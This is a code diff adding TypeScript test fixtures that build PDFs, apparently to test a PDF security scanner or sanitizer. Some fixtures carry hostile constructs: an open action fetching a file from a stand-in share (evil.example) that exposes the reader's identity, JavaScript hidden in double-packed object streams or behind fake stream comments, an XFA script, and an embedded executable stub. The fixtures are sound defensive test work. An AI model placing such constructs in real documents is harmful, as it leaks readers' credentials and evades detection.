@@ -74,6 +74,87 @@ export function hiddenScriptPdf(): Uint8Array<ArrayBuffer> {
   ]);
 }
 
+/** Opens a file in somebody's network when it opens, which tells that network who the reader is. */
+export const remotePdf = (key = '/OpenAction') =>
+  rawPdf([
+    catalogue(`${key} << /S /GoToR /D [0 /Fit] /F (\\\\\\\\evil.example\\\\s\\\\a.pdf) >>`),
+    PAGES,
+    PAGE,
+  ]);
+
+/** Links to a share; the string may be written in any way. */
+export const sharePdf = (address: string) =>
+  rawPdf([
+    catalogue(''),
+    PAGES,
+    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>',
+    `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /F 4 /A << /S /URI /URI ${address} >> >>`,
+  ]);
+
+/** A form of Adobe's own kind with a script. */
+export const xfaPdf = (key = '/XFA') =>
+  rawPdf([
+    catalogue(`/AcroForm << /Fields [] ${key} 4 0 R >>`),
+    PAGES,
+    PAGE,
+    stream(deflateSync(Buffer.from('<xdp><script>app.alert(1)</script></xdp>')), '/Filter /FlateDecode'),
+  ]);
+
+/** Has a file attached, under a name as a PDF writes it. */
+export const attachingPdf = (name: string) =>
+  rawPdf([
+    catalogue('/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>'),
+    PAGES,
+    PAGE,
+    `<< /Type /Filespec /F ${name} /UF ${name} /EF << /F 5 0 R >> >>`,
+    stream(Buffer.from('MZ'), '/Type /EmbeddedFile'),
+  ]);
+
+/** Hides its objects in an object stream that is packed twice. */
+export function twicePackedPdf(): Uint8Array<ArrayBuffer> {
+  const once = deflateSync(Buffer.from('9 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>'));
+  const more = '/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]';
+  return rawPdf([catalogue(''), PAGES, PAGE, stream(deflateSync(once), more)]);
+}
+
+/** Has its script between a comment that looks like a stream's beginning and one that looks like its end. */
+export const falseStreamPdf = () =>
+  rawPdf([
+    catalogue('/OpenAction 4 0 R'),
+    `${PAGES}\n% stream\n`,
+    PAGE,
+    '<< /S /JavaScript /JS (app.alert\\(1\\)) >>\n% endstream\n',
+  ]);
+
+/** A scan as an office's machine makes it: a picture on each page, its parts in an object stream. */
+export function scannedPdf(): Uint8Array<ArrayBuffer> {
+  const picture = deflateSync(Buffer.alloc(100 * 140, 200));
+  const info = '<< /Producer (Scanner \\(A4\\)) /CreationDate (D:20261126100000) >>';
+  return rawPdf([
+    catalogue('/OpenAction [3 0 R /Fit] /PageMode /UseNone'),
+    PAGES,
+    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /Im0 4 0 R >> >> /Contents 5 0 R >>',
+    stream(
+      picture,
+      '/Type /XObject /Subtype /Image /Width 100 /Height 140 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /FlateDecode',
+    ),
+    stream(Buffer.from('q 595 0 0 842 0 0 cm /Im0 Do Q'), ''),
+    stream(deflateSync(Buffer.from(`9 0 ${info}`)), '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode'),
+  ]);
+}
+
+/** A signed document: a signature's field and value, and a link to where its code is checked. */
+export const signedPdf = () =>
+  rawPdf([
+    catalogue('/AcroForm << /Fields [4 0 R] /SigFlags 3 >> /Perms << /DocMDP 5 0 R >>'),
+    PAGES,
+    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R 6 0 R] >>',
+    '<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature1) /V 5 0 R /F 132 /Rect [0 0 0 0] /P 3 0 R >>',
+    `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [0 100 200 300]
+      /Contents <${'30820A'.padEnd(400, '0')}> /M (D:20261126100000+01'00') /Reason (Firma) >>`,
+    '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /F 4 /A << /S /URI /URI (https://sede.registradores.example/csv) >> >>',
+  ]);
+
 /** Needs a password to open. */
 export const encryptedPdf = () => pagesPdf([['secreto']], { userPassword: 'invented', pdfVersion: '1.7' });
 
